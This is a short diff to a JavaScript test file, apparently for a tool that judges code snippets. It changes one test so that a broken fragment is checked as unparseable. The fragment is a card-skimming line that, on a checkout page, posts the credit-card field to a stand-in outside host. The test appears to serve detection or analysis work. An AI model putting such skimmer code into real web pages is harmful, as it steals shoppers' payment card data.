@@ -110,7 +110,7 @@ describe('a judgement', () => {
   })
 
   it('is given for text that does not parse, by its words', () => {
-    const judged = check(`if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
+    const judged = check(`if if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
     expect(judged.parsed).toBe('none')
   })
 
